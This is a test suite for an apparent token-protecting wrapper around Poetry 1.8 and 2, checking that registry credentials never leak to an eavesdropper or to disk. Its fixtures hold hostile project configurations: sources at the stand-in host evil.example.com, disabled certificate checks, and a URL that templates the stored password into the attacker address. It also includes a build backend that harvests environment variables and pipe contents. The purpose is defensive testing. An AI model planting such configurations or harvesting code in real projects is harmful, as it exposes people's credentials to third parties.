/** poetry, old and new: packages installed and published, and projects that want the token, where somebody listens. */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { requires } from "../../../requires.ts";
import { names } from "../../../sandbox/main.ts";
import { filesContaining } from "../../disk.ts";
import { type HostileProject, type ProjectFiles, startHostileProject } from "../../hostile/python/project.ts";

const tools = join(import.meta.dir, "../../../../.tools");
const host = names.packageHost;
const endpoint = `https://${host}/pypi/${names.repository}/`;
const index = `${endpoint}simple/`;

let at: HostileProject;
beforeAll(async () => {
  at = await startHostileProject();
  await at.laptop.setUpRepository("--tool", "poetry");
});
afterAll(() => at?.[Symbol.asyncDispose]());
beforeEach(() => at.reset());

/** A project with a dependency, and the sources that are given. */
function project(sources: string, dependency = 'my-package = "*"'): string {
  return [
    '[tool.poetry]\nname = "app"\nversion = "0.1.0"\ndescription = ""\nauthors = []\npackage-mode = false',
    `[tool.poetry.dependencies]\npython = "^3.9"\n${dependency}`,
    sources,
    "",
  ].join("\n");
}

function source(url: string, name = "my-repo"): string {
  return `[[tool.poetry.source]]\nname = "${name}"\nurl = "${url}"\npriority = "primary"`;
}

/** Files and folders with a token in their content or name, below the project and the home folder. */
function tokensOnDisk(): string[] {
  const folders = [at.folder, at.laptop.home];
  const paths = folders.flatMap((folder) => readdirSync(folder, { recursive: true, encoding: "utf8" }));
  const named = paths.filter((name) => name.includes("vouch-sandbox-token"));
  return named.concat(folders.flatMap((folder) => filesContaining(folder, /vouch-sandbox-token/)));
}

const library = [
  '[tool.poetry]\nname = "my-other"\nversion = "0.1.0"\ndescription = ""\nauthors = ["x <x@example.com>"]\n',
  '[build-system]\nrequires = ["poetry-core"]\nbuild-backend = "poetry.core.masonry.api"\n',
].join("");

const versions = [
  ["poetry 1.8", join(tools, "poetry-1/bin"), "1"],
  ["poetry 2", join(tools, "python-publish/bin"), "2"],
] as const;

describe.each(versions)("%s", (_, bin, version) => {
  const canRun = requires(join(bin, "poetry"));

  function poetry(
    args: string[],
    files: ProjectFiles,
    options: { env?: Record<string, string>; honest?: boolean } = {},
  ) {
    const env = { POETRY_VIRTUALENVS_CREATE: "false", POETRY_CACHE_DIR: join(at.folder, "cache"), ...options.env };
    return at.run(bin, ["poetry", "--no-interaction", ...args], files, { ...options, env });
  }

  describe.skipIf(!canRun)("on an honest network", () => {
    test("locks and installs, and what it builds sees no token", async () => {
      const backend = [
        "import os, json, glob",
        "def say():",
        "    seen = [json.dumps(dict(os.environ))]",
        "    for name in glob.glob('/dev/fd/*') + [os.environ.get('POETRY_CONFIG_DIR', '') + '/config.toml']:",
        "        try:",
        "            seen.append(os.readlink(name) if os.path.islink(name) else name)",
        "            if 'pipe' in os.path.realpath(name) and not name.endswith(('/0', '/1', '/2')): seen.append(open(name).read())",
        "        except OSError as error: seen.append(str(error))",
        `    open(${JSON.stringify(join(at.folder, "seen"))}, 'a').write('\\n'.join(seen))`,
        "def get_requires_for_build_wheel(config_settings=None): return []",
        "def prepare_metadata_for_build_wheel(folder, config_settings=None):",
        "    say()",
        "    os.makedirs(folder + '/local-0.1.0.dist-info')",
        "    open(folder + '/local-0.1.0.dist-info/METADATA', 'w').write('Metadata-Version: 2.1\\nName: local\\nVersion: 0.1.0\\n')",
        "    open(folder + '/local-0.1.0.dist-info/WHEEL', 'w').write('Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')",
        "    return 'local-0.1.0.dist-info'",
        "def build_wheel(folder, config_settings=None, metadata_directory=None):",
        "    say()",
        "    import zipfile",
        "    with zipfile.ZipFile(folder + '/local-0.1.0-py3-none-any.whl', 'w') as z:",
        "        z.writestr('local-0.1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: local\\nVersion: 0.1.0\\n')",
        "        z.writestr('local-0.1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')",
        "        z.writestr('local-0.1.0.dist-info/RECORD', '')",
        "    return 'local-0.1.0-py3-none-any.whl'",
      ].join("\n");
      const files = {
        "pyproject.toml": project(source(index, "company"), 'my-package = "*"\nlocal = { path = "local" }'),
        "local/backend.py": `${backend}\n`,
        "local/pyproject.toml":
          '[tool.poetry]\nname = "local"\nversion = "0.1.0"\ndescription = ""\nauthors = []\n[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
      };
      const env = { POETRY_VIRTUALENVS_CREATE: "true", POETRY_VIRTUALENVS_IN_PROJECT: "true" };
      const locked = await poetry(["lock"], files, { env, honest: true });
      expect({ exitCode: locked.exitCode, said: locked.exitCode === 0 ? "" : locked.stdout + locked.stderr }).toEqual({
        exitCode: 0,
        said: "",
      });
      const { exitCode, stdout, stderr } = await poetry(["install"], {}, { env, honest: true });
      expect({ exitCode, said: exitCode === 0 ? "" : stdout + stderr }).toEqual({ exitCode: 0, said: "" });
      expect(stdout).toContain("my-package");
      expect(readFileSync(join(at.folder, "poetry.lock"), "utf8")).toContain('reference = "company"');
      const seen = readFileSync(join(at.folder, "seen"), "utf8");
      expect(seen).toContain("POETRY_CONFIG_DIR");
      expect(seen).not.toContain("vouch-sandbox-token");
      expect(tokensOnDisk()).toEqual([]);
    });

    test("publishes to the repository that setup has named", async () => {
      const files = {
        "pyproject.toml": library.replace("0.1.0", `0.1.${version}`),
        "my_other/__init__.py": "",
      };
      const { exitCode, stdout, stderr } = await poetry(["publish", "--build", "-r", names.repository], files, {
        honest: true,
      });
      expect({ exitCode, said: exitCode === 0 ? "" : stdout + stderr }).toEqual({ exitCode: 0, said: "" });
      expect(stdout).toContain(`my_other-0.1.${version}`);
    });

    test("without a repository's name gets no token for a publish, and the person the command that does", async () => {
      const files = { "pyproject.toml": library, "my_other/__init__.py": "" };
      const said = "vouch: no token for `poetry --no-interaction publish` without --repository";
      const { stderr } = await poetry(["publish", "--dry-run"], files);
      expect(stderr).toContain(said);
      expect(stderr).toContain(`\`poetry --no-interaction publish --repository ${names.repository} --dry-run\``);
      const own = await poetry(["publish", "--dry-run"], files, { env: { POETRY_PYPI_TOKEN_PYPI: "mine" } });
      expect(own.stderr).not.toContain("vouch: no token");
    });

    test("keeps the person's own repositories and settings", async () => {
      const folder = join(at.folder, "own");
      mkdirSync(folder);
      writeFileSync(
        join(folder, "config.toml"),
        `[repositories.own]\nurl = "${index}"\n[solver]\nlazy-wheel = false\n`,
      );
      const env = { POETRY_CONFIG_DIR: folder, POETRY_REPOSITORIES_OTHER_URL: index };
      const { exitCode, stdout, stderr } = await poetry(
        ["lock"],
        {
          "pyproject.toml": project(source(index)),
          "poetry.toml": `[certificates.x]\ncert = false\n[http-basic.x]\nusername = "x"\n[repositories.x]\nurl = "x"\n`,
        },
        {
          env,
          honest: true,
        },
      );
      expect({ exitCode, said: exitCode === 0 ? "" : stdout + stderr }).toEqual({ exitCode: 0, said: "" });
    });
  });

  describe.skipIf(!canRun)("where somebody listens", () => {
    const evil = "evil.example.com";
    const trustsAll = (name: string): string => `[certificates.${name}]\ncert = false\n`;

    test.each<[string, ProjectFiles]>([
      ["another URL", { "pyproject.toml": project(source(`http://${evil}/simple/`)) }],
      [
        "a certificate that is not checked",
        // With our name poetry is not started.
        { "pyproject.toml": project(source(`https://${evil}/simple/`, "evil")), "poetry.toml": trustsAll("evil") },
      ],
    ])(
      "hears a password that a person has bound to a name: %s",
      async (_title, files) => {
        const password = (name: string) => ({
          [`POETRY_HTTP_BASIC_${name}_USERNAME`]: "aws",
          [`POETRY_HTTP_BASIC_${name}_PASSWORD`]: "vouch-sandbox-token",
        });
        await poetry(["lock"], files, { env: { ...password("MY_REPO"), ...password("EVIL") } });
        expect(at.tokensHeard()).not.toEqual([]);
      },
      120_000,
    );

    test.each<[string, ProjectFiles, string[]]>([
      ["another URL for our name", { "pyproject.toml": project(source(`http://${evil}/simple/`)) }, ["lock"]],
      [
        "another URL beside ours",
        { "pyproject.toml": project(`${source(`http://${evil}/simple/`)}\n${source(index, "ours")}`) },
        ["lock"],
      ],
      [
        "certificates that are not checked",
        { "pyproject.toml": project(source(index)), "poetry.toml": trustsAll("my-repo") },
        ["lock"],
      ],
      [
        "a repository in poetry.toml",
        {
          "pyproject.toml": project(source(index, "own")),
          "poetry.toml": `[repositories.a]\nurl = "${index}"\n${trustsAll("a")}${trustsAll("own")}`,
        },
        ["lock"],
      ],
      [
        "the passwords' table in a setting",
        {
          "pyproject.toml": project(source(`http://${evil}/{http-basic}/simple/`)),
          "poetry.toml": `cache-dir = "cache-{http-basic}"\n[repositories.b]\nurl = "http://${evil}/{http-basic}"\n`,
        },
        ["lock"],
      ],
      [
        "publishing to another URL of our name",
        {
          "pyproject.toml": library,
          "my_other/__init__.py": "",
          "poetry.toml": `[repositories.my-repo]\nurl = "http://${evil}/"\n`,
        },
        ["publish", "--build", "-r", "my-repo"],
      ],
      [
        "publishing without a checked certificate",
        { "pyproject.toml": library, "my_other/__init__.py": "", "poetry.toml": trustsAll("my-repo") },
        ["publish", "--build", "-r", "my-repo"],
      ],
      [
        "publishing to a name with the password in its URL",
        {
          "pyproject.toml": library,
          "my_other/__init__.py": "",
          "poetry.toml": `[repositories.my-repo]\nurl = "http://${evil}/{http-basic}/{http-basic.my-repo.password}/"\n`,
        },
        ["publish", "--build", "-r", "my-repo"],
      ],
    ])(
      "gives nobody the token: %s",
      async (title, files, args) => {
        const { stdout, stderr } = await poetry(
          args,
          files,
          title.includes("setting") ? { env: { POETRY_CACHE_DIR: undefined! } } : {},
        );
        expect(at.tokensHeard()).toEqual([]);
        // There was an occasion: the listener was asked, or nobody trusted it.
        expect(at.eavesdropper.heard.length > 0 || /certificate|SSL|connect/i.test(stdout + stderr)).toBe(true);
        expect(tokensOnDisk()).toEqual([]);
      },
      120_000,
    );

    test.each([
      ["a source", { "pyproject.toml": project(source(index.replace("https", "http"))) }],
      [
        "a dependency in git",
        { "pyproject.toml": project(source(index), `x = { git = "${index.replace("https", "http")}" }`) },
      ],
      [
        "a locked URL",
        {
          "pyproject.toml": project(source(index)),
          "poetry.lock": `[[package]]\nname = "x"\nversion = "1"\n[package.source]\ntype = "url"\nurl = "http://${host}/x.whl"\n`,
        },
      ],
    ])(
      "is refused for %s over plain http, by file",
      async (_title, files) => {
        const { exitCode, stderr } = await poetry(["lock"], files);
        expect(stderr).toMatch(
          /^vouch: \S+\.(toml|lock) names http:\/\/\S+: no token goes over a connection without TLS/m,
        );
        expect(exitCode).toBe(5);
        expect(at.eavesdropper.heard).toEqual([]);
      },
      120_000,
    );

    test("gives nobody the token for plain http that an index page leads to", async () => {
      using server = Bun.serve({
        hostname: "127.0.0.1",
        port: 0,
        fetch: () =>
          new Response(
            `<a href="http://${host}/my_package-1.0.0-py3-none-any.whl">my_package-1.0.0-py3-none-any.whl</a>`,
            {
              headers: { "content-type": "text/html" },
            },
          ),
      });
      const files = { "pyproject.toml": project(source(`http://127.0.0.1:${server.port}/simple/`, "evil")) };
      await poetry(["lock"], files, { env: { NO_PROXY: "127.0.0.1", no_proxy: "127.0.0.1" } });
      expect(at.tokensHeard()).toEqual([]);
    });
  });

  test.skipIf(!canRun)(
    "gets no other configuration for commands that contact no registry",
    async () => {
      for (const args of [["run", "env"], ["--version"], ["config", "--list"], ["build", "--help"]]) {
        const { stdout } = await poetry(args, { "pyproject.toml": project("") }, { honest: true });
        expect(stdout).not.toMatch(/POETRY_CONFIG_DIR|vouch-sandbox-token/);
      }
      expect(existsSync(join(at.folder, "poetry.lock"))).toBe(false);
    },
    120_000,
  );
});
